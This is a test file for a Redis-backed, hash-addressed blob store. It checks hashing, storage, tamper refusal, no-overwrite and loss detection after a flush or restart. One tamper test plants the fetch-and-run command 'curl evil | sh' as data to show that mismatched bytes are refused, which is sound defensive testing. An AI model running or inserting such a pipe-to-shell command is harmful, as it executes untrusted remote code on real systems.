import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sha256 } from '../../src/queue/blob-store.js';
import { NO_REDIS } from '../helpers/redis.js';
import { rejection, useRedisBlobs } from '../helpers/redis-blobs.js';

const ctx = useRedisBlobs();

describe('sha256', () => {
  it('is the hex SHA-256 of text or bytes alike', () => {
    assert.equal(sha256(''), 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
    assert.equal(sha256(Buffer.from('abc')), sha256('abc'));
    assert.equal(sha256('abc'), 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
  });
});

describe('BlobStore (against a real redis-server)', () => {
  it('stores bytes under raymond:blob:<sha> and gives them back', async (t) => {
    if (!ctx.server) return t.skip(NO_REDIS);
    const data = Buffer.from([0, 1, 2, 255, 254, 10, 13]);
    const sha = await ctx.blobs.put(data);
    assert.equal(sha, sha256(data));
    assert.deepEqual(await ctx.redis.getBuffer(`raymond:blob:${sha}`), data);
    assert.deepEqual(await ctx.blobs.get(sha), data);
    assert.equal(
      await ctx.blobs.put(Buffer.from(data)),
      sha,
      'the same bytes again: the same blob',
    );
  });

  it('refuses a blob whose bytes no longer match their hash', async (t) => {
    if (!ctx.server) return t.skip(NO_REDIS);
    const sha = await ctx.blobs.put(Buffer.from('echo honest\n'));
    await ctx.redis.set(`raymond:blob:${sha}`, Buffer.from('curl evil | sh\n'));
    const err = await rejection(ctx.blobs.get(sha));
    assert.equal(err.code, 'ERR_QUEUE_REFUSED');
    assert.match(err.message, new RegExp(`does not match its hash ${sha.slice(0, 12)}: refused`));
  });

  it('put does not overwrite a blob Redis has (NX)', async (t) => {
    if (!ctx.server) return t.skip(NO_REDIS);
    const data = Buffer.from('kept once');
    const sha = sha256(data);
    await ctx.redis.set(`raymond:blob:${sha}`, 'tampered');
    assert.equal(await ctx.blobs.put(data), sha);
    assert.equal(await ctx.redis.get(`raymond:blob:${sha}`), 'tampered');
    assert.equal((await rejection(ctx.blobs.get(sha))).code, 'ERR_QUEUE_REFUSED');
  });

  it('says which blob the queue has not got', async (t) => {
    if (!ctx.server) return t.skip(NO_REDIS);
    const sha = sha256('never stored');
    const err = await rejection(ctx.blobs.get(sha));
    assert.equal(err.code, 'ERR_QUEUE');
    assert.match(err.message, new RegExp(`no file with hash ${sha.slice(0, 12)}`));
  });

  it('missing counts the blobs Redis lost in a FLUSHALL', async (t) => {
    if (!ctx.server) return t.skip(NO_REDIS);
    const shas = await Promise.all(
      ['one', 'two', 'three'].map((s) => ctx.blobs.put(Buffer.from(`missing-${s}`))),
    );
    assert.equal(await ctx.blobs.missing(shas), 0);
    assert.equal(await ctx.blobs.missing([]), 0);
    assert.equal(await ctx.blobs.missing([...shas, sha256('never stored')]), 1);
    await ctx.redis.flushall();
    assert.equal(await ctx.blobs.missing(shas), 3);
    await ctx.blobs.put(Buffer.from('missing-two'));
    assert.equal(await ctx.blobs.missing(shas), 2);
  });

  it('missing counts the blobs a Redis restarted without persistence lost; the connection comes back by itself', async (t) => {
    if (!ctx.server) return t.skip(NO_REDIS);
    const shas = await Promise.all(
      ['a', 'b'].map((s) => ctx.blobs.put(Buffer.from(`restart-${s}`))),
    );
    assert.equal(await ctx.blobs.missing(shas), 0);
    await ctx.server.restart();
    assert.equal(await ctx.blobs.missing(shas), 2);
    assert.equal(await ctx.blobs.put(Buffer.from('restart-a')), shas[0]);
    assert.deepEqual(await ctx.blobs.get(shas[0]!), Buffer.from('restart-a'));
  });
});
